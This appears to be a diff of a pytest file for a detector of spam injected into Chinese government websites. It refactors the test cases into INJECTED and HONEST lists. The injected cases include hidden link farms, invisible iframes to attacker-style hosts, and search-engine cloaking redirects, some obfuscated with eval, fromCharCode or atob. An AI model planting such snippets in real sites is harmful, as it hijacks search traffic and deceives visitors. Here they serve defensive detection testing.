@@ -28,61 +28,64 @@ def strong(body: str, head: str = "<title>某某县人民政府</title>") -> set
     return {sign.kind for sign in signs(body, head) if is_strong(sign.kind)}
 
 
+INJECTED = [
+    (f"<div style='display:none;'>{FARM}</div>", "hidden_links"),
+    (f"<div style='display : NONE'>{FARM}</div>", "hidden_links"),
+    (f"<div hidden>{FARM}</div>", "hidden_links"),
+    (f"<div style='visibility:hidden'>{FARM}</div>", "hidden_links"),
+    (f"<div style='position:absolute;left:-9999px;top:-9999px'>{FARM}</div>", "hidden_links"),
+    (f"<div style='text-indent:-9999px'>{FARM}</div>", "hidden_links"),
+    (f"<div style='height:1px;overflow:hidden'>{FARM}</div>", "hidden_links"),
+    (f"<span style='font-size:0'>{FARM}</span>", "hidden_links"),
+    (f"<marquee width='1' height='1'>{FARM}</marquee>", "hidden_links"),
+    (f"<style>#zx9{{display:none}}</style><div id=zx9>{FARM}</div>", "hidden_links"),
+    (
+        f"<div id=aa1>{FARM}</div><script>document.getElementById('aa1').style.display='none'</script>",
+        "hidden_links",
+    ),
+    (
+        f"<script>document.write('<div style=\"display:none\">')</script>{FARM}<script>document.write('</div>')</script>",
+        "hidden_links",
+    ),
+    (
+        f"<script>document.write('<div style=\"display:none\">{FARM.replace(chr(39), '')}</div>')</script>",
+        "hidden_links",
+    ),
+    (f"<ul class='menu' style='display:none'>{GAMBLING}</ul>", "hidden_words"),
+    (f"<p>友情链接</p>{GAMBLING}", "bad_links"),
+    ("<iframe src='http://bad.example-x.top/m.htm' width=0 height=0></iframe>", "hidden_frame"),
+    ("<iframe src='//bad.example-x.top/m.htm' style='display:none'></iframe>", "hidden_frame"),
+    ("<p>联系单位：www.828365.com办公室</p>", "domain_in_name"),
+    (
+        "<script>var s=document.referrer;if(s.indexOf('baidu')>0||s.indexOf('sogou')>0){location.href='http://www.jump888.com/';}</script>",
+        "cloaking_script",
+    ),
+    (
+        "<script>if(/baiduspider|sogou/i.test(navigator.userAgent)){document.write('<script src=\"//js.jump888.com/a.js\"><\\/script>')}</script>",
+        "cloaking_script",
+    ),
+    (
+        "<script>document.title='无法找到该网页';document.write('<h1>HTTP 错误 404</h1>')</script>",
+        "fake_404_script",
+    ),
+    (
+        "<script>eval(String.fromCharCode("
+        + ",".join(str(ord(c)) for c in "if(document.referrer.match(/baidu/))location='http://x8.vip/'")
+        + "))</script>",
+        "cloaking_script",
+    ),
+    (
+        "<script>eval(atob('"
+        + base64.b64encode(b"if(document.referrer.match(/baidu/)){location='http://x8.vip/'}").decode()
+        + "'))</script>",
+        "cloaking_script",
+    ),
+]
+
+
 @pytest.mark.parametrize(
     ("body", "kind"),
-    [
-        (f"<div style='display:none;'>{FARM}</div>", "hidden_links"),
-        (f"<div style='display : NONE'>{FARM}</div>", "hidden_links"),
-        (f"<div hidden>{FARM}</div>", "hidden_links"),
-        (f"<div style='visibility:hidden'>{FARM}</div>", "hidden_links"),
-        (f"<div style='position:absolute;left:-9999px;top:-9999px'>{FARM}</div>", "hidden_links"),
-        (f"<div style='text-indent:-9999px'>{FARM}</div>", "hidden_links"),
-        (f"<div style='height:1px;overflow:hidden'>{FARM}</div>", "hidden_links"),
-        (f"<span style='font-size:0'>{FARM}</span>", "hidden_links"),
-        (f"<marquee width='1' height='1'>{FARM}</marquee>", "hidden_links"),
-        (f"<style>#zx9{{display:none}}</style><div id=zx9>{FARM}</div>", "hidden_links"),
-        (
-            f"<div id=aa1>{FARM}</div><script>document.getElementById('aa1').style.display='none'</script>",
-            "hidden_links",
-        ),
-        (
-            f"<script>document.write('<div style=\"display:none\">')</script>{FARM}<script>document.write('</div>')</script>",
-            "hidden_links",
-        ),
-        (
-            f"<script>document.write('<div style=\"display:none\">{FARM.replace(chr(39), '')}</div>')</script>",
-            "hidden_links",
-        ),
-        (f"<ul class='menu' style='display:none'>{GAMBLING}</ul>", "hidden_words"),
-        (f"<p>友情链接</p>{GAMBLING}", "bad_links"),
-        ("<iframe src='http://bad.example-x.top/m.htm' width=0 height=0></iframe>", "hidden_frame"),
-        ("<iframe src='//bad.example-x.top/m.htm' style='display:none'></iframe>", "hidden_frame"),
-        ("<p>联系单位：www.828365.com办公室</p>", "domain_in_name"),
-        (
-            "<script>var s=document.referrer;if(s.indexOf('baidu')>0||s.indexOf('sogou')>0){location.href='http://www.jump888.com/';}</script>",
-            "cloaking_script",
-        ),
-        (
-            "<script>if(/baiduspider|sogou/i.test(navigator.userAgent)){document.write('<script src=\"//js.jump888.com/a.js\"><\\/script>')}</script>",
-            "cloaking_script",
-        ),
-        (
-            "<script>document.title='无法找到该网页';document.write('<h1>HTTP 错误 404</h1>')</script>",
-            "fake_404_script",
-        ),
-        (
-            "<script>eval(String.fromCharCode("
-            + ",".join(str(ord(c)) for c in "if(document.referrer.match(/baidu/))location='http://x8.vip/'")
-            + "))</script>",
-            "cloaking_script",
-        ),
-        (
-            "<script>eval(atob('"
-            + base64.b64encode(b"if(document.referrer.match(/baidu/)){location='http://x8.vip/'}").decode()
-            + "'))</script>",
-            "cloaking_script",
-        ),
-    ],
+    INJECTED,
 )
 def test_injected_content_is_found(body: str, kind: str) -> None:
     assert kind in strong(body)
@@ -119,32 +122,35 @@ SHOPS = "".join(f"<a href='http://www.shop{n}.com/'>企业{n}</a>" for n in rang
 GOV = "".join(f"<a href='http://www.x{n}.gov.cn/'>某局{n}</a>" for n in range(6))
 
 
+HONEST = [
+    f"<div style='display:none'>{GOV}</div>",
+    f"<div style='display:none'>{MEDIA}</div>",
+    f"<div class=tab style='display:none'>{MEDIA}</div>",
+    f"<ul class=submenu style='display:none'>{SHOPS}</ul>",
+    f"<div class=link><span>企业网站</span><ul style='display:none'>{SHOPS}</ul></div>",
+    f"<div class=pane>一</div><div class=pane style='display:none'>{SHOPS}</div>",
+    f"<div id=qy style='display:none'>{SHOPS}</div><script>$('#qy').show()</script>",
+    "<a href='#content' style='position:absolute;left:-9999px'>跳到正文</a>",
+    "<div style='display:none'><a href='http://www.one.com/'>一</a><a href='http://www.two.com/'>二</a></div>",
+    "<iframe src='/module/visitcount/visit.jsp' style='display:none'></iframe>",
+    "<iframe src='https://i.tianqi.com/?c=code' width=0 height=0></iframe>",
+    "<iframe src='http://map.partner.com/' width=600 height=400></iframe>",
+    "<h1>公安机关打击网络赌博、色情犯罪</h1><a href='http://www.partner.com/1'>严禁参与六合彩赌博活动</a>",
+    "<p>请登录 www.jzpartner.com 查询，办公室电话 123。</p>",
+    "<p><a href='http://www.partner.com'>www.partner.com</a>办公室</p>",
+    "<p>主办：www.example.gov.cn办公室</p>",
+    "<script>if(/iphone|android/i.test(navigator.userAgent)){location.href='http://m.example.gov.cn/'}</script>",
+    "<script>var r=document.referrer;if(/baidu/.test(r)){document.write('<script src=\"//hm.baidu.com/h.js\"><\\/script>')}</script>",
+    "<script>document.write(unescape(\"%3Cscript src='http://dcs.conac.cn/js/14/000/0000/1/CA1.js'%3E%3C/script%3E\"))</script>",
+    "<script>axios.get('/x').catch(function(){alert('无法找到该网页')})</script>",
+    "<!-- <div style='display:none'>" + FARM + "</div> -->",
+    "<script src='http://js.partner.com/x.js'></script>",
+]
+
+
 @pytest.mark.parametrize(
     "body",
-    [
-        f"<div style='display:none'>{GOV}</div>",
-        f"<div style='display:none'>{MEDIA}</div>",
-        f"<div class=tab style='display:none'>{MEDIA}</div>",
-        f"<ul class=submenu style='display:none'>{SHOPS}</ul>",
-        f"<div class=link><span>企业网站</span><ul style='display:none'>{SHOPS}</ul></div>",
-        f"<div class=pane>一</div><div class=pane style='display:none'>{SHOPS}</div>",
-        f"<div id=qy style='display:none'>{SHOPS}</div><script>$('#qy').show()</script>",
-        "<a href='#content' style='position:absolute;left:-9999px'>跳到正文</a>",
-        "<div style='display:none'><a href='http://www.one.com/'>一</a><a href='http://www.two.com/'>二</a></div>",
-        "<iframe src='/module/visitcount/visit.jsp' style='display:none'></iframe>",
-        "<iframe src='https://i.tianqi.com/?c=code' width=0 height=0></iframe>",
-        "<iframe src='http://map.partner.com/' width=600 height=400></iframe>",
-        "<h1>公安机关打击网络赌博、色情犯罪</h1><a href='http://www.partner.com/1'>严禁参与六合彩赌博活动</a>",
-        "<p>请登录 www.jzpartner.com 查询，办公室电话 123。</p>",
-        "<p><a href='http://www.partner.com'>www.partner.com</a>办公室</p>",
-        "<p>主办：www.example.gov.cn办公室</p>",
-        "<script>if(/iphone|android/i.test(navigator.userAgent)){location.href='http://m.example.gov.cn/'}</script>",
-        "<script>var r=document.referrer;if(/baidu/.test(r)){document.write('<script src=\"//hm.baidu.com/h.js\"><\\/script>')}</script>",
-        "<script>document.write(unescape(\"%3Cscript src='http://dcs.conac.cn/js/14/000/0000/1/CA1.js'%3E%3C/script%3E\"))</script>",
-        "<script>axios.get('/x').catch(function(){alert('无法找到该网页')})</script>",
-        "<!-- <div style='display:none'>" + FARM + "</div> -->",
-        "<script src='http://js.partner.com/x.js'></script>",
-    ],
+    HONEST,
 )
 def test_honest_content_is_not_accused(body: str) -> None:
     assert strong(body) == set()
